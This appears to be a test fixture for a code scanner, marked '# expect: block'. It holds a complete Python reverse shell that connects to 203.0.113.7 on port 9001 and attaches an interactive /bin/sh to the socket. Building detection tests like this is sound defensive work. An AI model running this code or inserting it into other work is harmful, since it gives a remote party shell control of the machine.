# expect: block
from os import *
from socket import *

s = socket(AF_INET, SOCK_STREAM)
s.connect(("203.0.113.7", 9001))
dup2(s.fileno(), 0)
dup2(s.fileno(), 1)
dup2(s.fileno(), 2)
execv("/bin/sh", ["sh", "-i"])
